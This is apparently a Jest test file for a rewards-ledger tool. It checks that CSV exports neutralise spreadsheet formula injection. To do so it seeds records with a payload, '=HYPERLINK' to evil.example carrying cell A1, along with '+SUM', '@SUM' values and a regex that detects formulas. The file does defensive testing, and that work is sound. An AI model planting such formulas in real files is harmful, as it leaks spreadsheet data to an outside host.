/** Files that a spreadsheet opens, with names that it would calculate. docs/security.md has a row for each test here. */
import { readFile } from "node:fs/promises";
import path from "node:path";
import { afterAll, beforeAll, expect, test } from "@jest/globals";
import { parse } from "csv-parse/sync";
import { spendBreakdowns } from "../../src/ledger/spend.ts";
import { bookAt } from "../support/book.ts";
import { deliver, hubspotEvent } from "../support/hubspot-door.ts";
import { insertMoneyGrant, insertPerson } from "../support/money-rows.ts";
import { runHere } from "../support/run-here.ts";
import { type Bench, clockAt, openBench } from "../support/workspace.ts";

const KEY = "a-secret-key-for-these-tests-that-is-long-enough";
const evil = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const clock = clockAt("2026-11-23T12:00:00Z");

let bench: Bench;
/** Written by the command instead of the console: `export` writes to standard output itself. */
const exported = async (...args: string[]) => {
  const file = path.join(bench.folder, "out.csv");
  const env = { DATABASE_URL: bench.config.databaseUrl ?? "", ACCOLADE_SECRET_KEY: KEY };
  const { code, stderr } = await runHere([...args, file], bench.folder, env);
  expect([args.join(" "), code, stderr.includes("found")]).toEqual([args.join(" "), 0, false]);
  return readFile(file, "utf8");
};

beforeAll(async () => {
  bench = await openBench(
    {
      config: `
workspace: { currency: EUR, rates: { USD: 0.9 } }
connections:
  hub: { connector: hubspot, clientSecret: 3f1b2c4d-0000-4000-8000-1a2b3c4d5e6f }
providers:
  points: { provider: points }
people: people.yaml
tax: { thresholds: { 2026: 1 EUR } }
`,
      rules: {
        "rules.yaml": `
rewards: [{ id: points, title: Points, provider: points, value: 30 points }]
rules: [{ id: won, title: ${JSON.stringify(evil)}, on: deal.won, reward: { to: owner, give: points }, from: 2026-01-01 }]
`,
      },
      people: `people:\n  - { name: ${JSON.stringify(evil)}, email: +1@acme.example, team: "@SUM(1)", crm: { hub: "77" } }\n`,
      env: { ACCOLADE_SECRET_KEY: KEY },
    },
    clock,
  );
  const { database } = bench.opened;
  for (const [kind, currency] of [
    ["rep", "EUR"],
    ["customer", "EUR"],
  ] as const) {
    const recipient = await insertPerson(database, { kind, name: evil, email: `-2+3@${kind}.example` });
    const grant = {
      recipient,
      currency,
      minor: 5_00,
      rule: "won",
      team: "+SUM(1)",
      kpi: "@kpi",
      state: "issued",
    } as const;
    const grantId = await insertMoneyGrant(database, grant);
    const booking = { grantId, at: "2026-11-20T10:00:00Z", minor: 5_00, currency };
    await bookAt(database, { ...booking, key: `${grantId}/reserve/0`, from: "funding", to: "reserved" });
    await bookAt(database, { ...booking, key: `${grantId}/issue/0`, from: "reserved", to: "issued" });
  }
  const changes = { dealname: evil, amount: "62000", hubspot_owner_id: "77", dealstage: "closedwon" };
  const occurredAt = clock.now().getTime() - 86_400_000;
  await deliver(
    bench,
    "hub",
    Object.entries(changes).map(([propertyName, propertyValue]) =>
      hubspotEvent({ subscriptionType: "deal.propertyChange", objectId: 9, occurredAt, propertyName, propertyValue }),
    ),
  );
  await bench.drain();
});
afterAll(() => bench?.close());

const beginsFormula = /^\s*[=+\-@\t\r\n＝＋－＠]/;
const harmless = (text: string) => {
  const rows: string[][] = parse(text, { record_delimiter: "\r\n" });
  expect(rows.length).toBeGreaterThan(1);
  for (const cell of rows.flat()) if (beginsFormula.test(cell)) expect(cell).toMatch(/^-\d+(\.\d+)?$/);
  return rows;
};

test.each([
  ["payroll", ["export", "payroll", "--from", "2026-01-01", "--until", "2027-01-01", "--out"]],
  ["yearly", ["export", "yearly", "--year", "2026", "--out"]],
  ["backtest", ["rules", "backtest", "--from", "2026-11-01", "--csv"]],
  ...spendBreakdowns.map((by) => [`spend by ${by}`, ["export", "spend", "--by", by, "--out"]] as const),
] as const)("no cell of %s is a formula", async (_, args) => {
  const rows = harmless(await exported(...args));
  // the names are there, as text
  if (/payroll|yearly|backtest/.test(args.join(" "))) expect(rows.flat()).toContain(`'${evil}`);
});
